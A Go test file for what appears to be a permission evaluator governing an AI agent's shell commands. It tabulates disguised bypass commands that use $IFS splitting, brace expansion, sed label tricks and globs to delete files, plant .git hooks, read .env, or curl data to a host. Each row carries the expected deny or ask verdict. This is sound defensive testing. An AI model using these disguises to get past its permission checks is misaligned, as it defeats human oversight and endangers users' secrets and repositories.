package engine

import "testing"

// The spec's public bypass classes (§9), disguised anew, round 21. Each
// attack was run first (bash 5.2, GNU find 4.9, GNU sed 4.9, git, npm):
// every one removed, wrote, ran or read what the row's policy forbids.
// Rows are decided by the evaluator AGENTCTL_EVALUATOR names (both in CI).

// red21b9Prefix is a permissive project: the prefix rules an agent is
// given for everyday work, beside the deny rules of the spec's examples.
const red21b9Prefix = `{"permissions":{"allow":["Bash(git status:*)","Bash(npm test:*)","Bash(echo:*)","Bash(find:*)","Bash(sed -n:*)","Bash(ping:*)","Bash(git log:*)","Bash(grep:*)","Bash(sort:*)"],"deny":["Bash(curl:*)","Bash(rm:*)","Read(.env)","Edit(.git/**)"]}}`

// red21b9None has no rule: only read-only detection approves.
const red21b9None = `{}`

var red21b9Classes = map[string][]shellRow{
	"b9-1 an unquoted expansion splits one word into an option or a find action": {
		// $IFS holds blanks; bash split each word, and find ran rm
		// (deleted the file), -delete removed, -fprint wrote, git log
		// --output wrote y, npm ran ./s as its script shell, grep read
		// its patterns from .env. An unset $x is nothing: -exec$x is -exec.
		{red21b9Prefix, "default", `find . -exec${IFS}rm {} +`, "deny"},
		{red21b9Prefix, "default", `find . -type f -exec$IFS rm {} +`, "deny"},
		{red21b9Prefix, "default", `find . -exec${IFS:0:1}rm {} +`, "deny"},
		{red21b9Prefix, "default", `find -- . -exec${IFS}curl${IFS}-d@x${IFS}h ;`, "deny"},
		{red21b9Prefix, "default", `find . -exec$x rm {} +`, "deny"},
		{red21b9Prefix, "default", `find . -name x${IFS}-delete`, "notallow"},
		{red21b9Prefix, "default", `find . -name x -o${IFS}-fprint${IFS}y`, "notallow"},
		{red21b9Prefix, "default", `find . -fls${IFS}y`, "notallow"},
		{red21b9Prefix, "dontAsk", `find . -exec${IFS}rm {} +`, "deny"},
		{red21b9Prefix, "bypassPermissions", `find . -exec${IFS}rm {} +`, "deny"},
		{red21b9Prefix, "acceptEdits", `find . -name x${IFS}-fprint${IFS}y`, "notallow"},
		{red21b9Prefix, "default", `git log HEAD${IFS}--output=y`, "ask"},
		{red21b9Prefix, "default", `git log HEAD$x`, "ask"},
		{red21b9Prefix, "dontAsk", `git log HEAD${IFS}--output=y`, "deny"},
		{red21b9Prefix, "default", `npm test x${IFS}--script-shell=./s`, "ask"},
		{red21b9Prefix, "bypassPermissions", `npm test x${IFS}--script-shell=./s`, "ask"},
		{red21b9Prefix, "default", `grep -e x${IFS}-f.env y`, "notallow"},
		{red21b9Prefix, "default", `sort x${IFS}-o${IFS}y`, "ask"},
		{red21b9None, "default", `find . -name x${IFS}-delete`, "ask"},
		{red21b9None, "dontAsk", `find . -name x${IFS}-delete`, "deny"},
		// bypassPermissions still asks before a write under .git.
		{red21b9None, "bypassPermissions", `git log HEAD${IFS}--output=.git/hooks/pre-commit`, "ask"},
		{red21b9None, "bypassPermissions", `sort x${IFS}-o${IFS}.git/hooks/pre-commit`, "ask"},
		{red21b9None, "bypassPermissions", `find . -name x${IFS}-fprint${IFS}.git/hooks/pre-commit`, "ask"},
		{red21b9None, "bypassPermissions", `find .git -name x${IFS}-delete`, "ask"},
		// Neighbours: quoted expansions stay one word; no expansion at
		// all; "--" hands npm's later words to the script.
		{red21b9Prefix, "default", `find . -name "x${IFS}-delete"`, "allow"},
		{red21b9Prefix, "default", `grep -e "x${IFS}-f.env" y`, "allow"},
		{red21b9Prefix, "default", `npm test -- x${IFS}--script-shell=./s`, "allow"},
		{red21b9Prefix, "default", `find . -name '*.go' -newer x`, "allow"},
		{red21b9Prefix, "default", `find . -type f -name '*.md'`, "allow"},
		{red21b9Prefix, "default", `git log --oneline -5`, "allow"},
		{red21b9Prefix, "default", `npm test -- --watch`, "allow"},
		{red21b9Prefix, "default", `echo x${IFS}-e`, "allow"},
		{red21b9None, "default", `git status`, "allow"},
	},
	"b9-2 a redirect target whose expansion is glued to a protected name": {
		// bash wrote .git/hooks/pre-commit through each: the expansion
		// is empty (an unset variable) or blanks field splitting drops.
		{red21b9None, "bypassPermissions", `echo x > $nope.git/hooks/pre-commit`, "ask"},
		{red21b9None, "bypassPermissions", `echo x > ${nope}.git/hooks/pre-commit`, "ask"},
		{red21b9None, "bypassPermissions", `echo x > "$nope".git/hooks/pre-commit`, "ask"},
		{red21b9None, "bypassPermissions", `echo x >${IFS}.git/hooks/pre-commit`, "ask"},
		{red21b9None, "bypassPermissions", `echo x >> ${IFS# }.git/config`, "ask"},
		{red21b9None, "bypassPermissions", `echo x > ./$nope.git/hooks/pre-commit`, "ask"},
		{red21b9None, "bypassPermissions", `printf '{}' > $nope.claude/settings.json`, "ask"},
		{red21b9Prefix, "acceptEdits", `echo x > $nope.git/config`, "notallow"},
		{red21b9Prefix, "bypassPermissions", `echo x > $nope.git/config`, "notallow"},
		// Neighbours: ordinary places behind an expansion, and a
		// protected file name outside .git/.claude, which bypass writes.
		{red21b9None, "bypassPermissions", `echo x > $nope.txt`, "allow"},
		{red21b9None, "bypassPermissions", `echo x > "$PWD/out.txt"`, "allow"},
		{red21b9None, "bypassPermissions", `echo x > $nope.bashrc`, "allow"},
	},
	"b9-3 a sed label ends at a blank, so the rest is the next command": {
		// GNU sed 4.9 read ":a w y" as the label a and the command w y:
		// it created y; ":a e touch M" ran touch; ":a r .env" printed .env.
		{red21b9Prefix, "default", `sed -n ':a w y' x`, "ask"},
		{red21b9Prefix, "default", `sed -n 'ba w y' x`, "ask"},
		{red21b9Prefix, "default", `sed -n 'b a w y' x`, "ask"},
		{red21b9Prefix, "default", `sed -n 't a W y' x`, "ask"},
		{red21b9Prefix, "default", `sed -n 'T a s/a/b/w y' x`, "ask"},
		{red21b9Prefix, "default", "sed -n ':a\tw y' x", "ask"},
		{red21b9Prefix, "default", `sed -n 'bx;:x w y' x`, "ask"},
		{red21b9Prefix, "default", `sed -n ':a e touch M' x`, "ask"},
		{red21b9Prefix, "default", `sed -n ':a r .env' x`, "deny"},
		{red21b9Prefix, "default", `sed -n 'b end R .env' x`, "deny"},
		{red21b9None, "default", `sed -n ':a w y' x`, "ask"},
		{red21b9None, "dontAsk", `sed -n ':a e touch M' x`, "deny"},
		{red21b9None, "bypassPermissions", `sed -n ':a w .git/hooks/pre-commit' x`, "ask"},
		// Neighbours: the loop idioms, labels ended by ";" and "}".
		{red21b9Prefix, "default", `sed -n ':a;N;$!ba;s/\n/ /g;p' x`, "allow"},
		{red21b9Prefix, "default", `sed -n '/x/{:a;n;p;ba}' x`, "allow"},
		{red21b9Prefix, "default", `sed -n 'b end; :end p' x`, "allow"},
		{red21b9None, "default", `sed -n ':a;s/x/y/;ta;p' x`, "allow"},
		{red21b9None, "default", `sed -n '$!{N;ba};p' x`, "allow"},
	},
	"b9-4 a brace expansion spells an option or a find action": {
		// bash expanded each before the program ran: find deleted x (and
		// ran rm -v), git log wrote y, grep read its patterns from .env,
		// npm ran ./s as its script shell.
		{red21b9Prefix, "default", `find . -name x -{delete,print}`, "notallow"},
		{red21b9Prefix, "default", `find . -name x -de{l,}ete`, "notallow"},
		{red21b9Prefix, "default", `find . -exec {rm,-v} {} \;`, "deny"},
		{red21b9Prefix, "default", `find . -exec {rm,x} \;`, "deny"},
		{red21b9Prefix, "default", `{rm,x}`, "deny"},
		{red21b9Prefix, "default", `timeout 5 {rm,x}`, "deny"},
		{red21b9Prefix, "default", `git log HEAD --{output=y,}`, "ask"},
		{red21b9Prefix, "default", `git log --out{put=y,}`, "ask"},
		{red21b9Prefix, "default", `grep -e x -{f.env,} y`, "deny"},
		{red21b9Prefix, "default", `npm test --script-shell{=./s,=./s}`, "ask"},
		{red21b9Prefix, "dontAsk", `npm test --script-shell{=./s,=./s}`, "deny"},
		{red21b9None, "default", `find . -name x -{delete,print}`, "ask"},
		{red21b9None, "default", `git log --out{put=y,}`, "ask"},
		{red21b9None, "bypassPermissions", `git log HEAD --{output=.git/hooks/pre-commit,}`, "ask"},
		// Neighbours: braces that name files or print words.
		{red21b9None, "default", `echo {a,b}`, "allow"},
		{red21b9None, "default", `echo {1..5}`, "allow"},
		{red21b9None, "default", `git diff HEAD -- src/{a,b}.go`, "allow"},
		{red21b9Prefix, "default", `find . -name '*.{go,md}'`, "allow"},
		{red21b9None, "acceptEdits", `mkdir -p src/{a,b}`, "notdeny"},
	},
	"b9-5 a glob in option position spells the option from file names": {
		// With a file named -delete, -fprint or --output=y in the cwd
		// (touch made it), bash expanded the glob to that name: find
		// deleted x and wrote .git/hooks/pre-commit, git log wrote y.
		{red21b9None, "acceptEdits", `touch ./-delete; find . -name x -del?te`, "ask"},
		{red21b9None, "default", `find . -name x -delet[e]`, "ask"},
		{red21b9Prefix, "default", `find . -name x -del?te`, "ask"},
		{red21b9Prefix, "acceptEdits", `touch ./-fprint; find . -fprin? .git/hooks/pre-commit`, "notallow"},
		{red21b9None, "acceptEdits", `touch ./--output=y; git log --outpu*`, "ask"},
		{red21b9None, "default", `git log --outpu*`, "ask"},
		{red21b9Prefix, "dontAsk", `git log --outpu*`, "deny"},
		// Neighbours: a glob in an option's value or among the operands.
		{red21b9Prefix, "default", `grep -r foo --include=*.go .`, "allow"},
		{red21b9None, "default", `ls -la *.md`, "allow"},
		{red21b9None, "default", `git log -- *.go`, "allow"},
		{red21b9Prefix, "default", `find . -name *.go`, "allow"},
	},
}

func TestRed21b9Disguises(t *testing.T) {
	runShellRows(t, map[string]string{"x": "x\n", ".env": "SECRET=1\n", "y": "a\n"}, red21b9Classes)
}
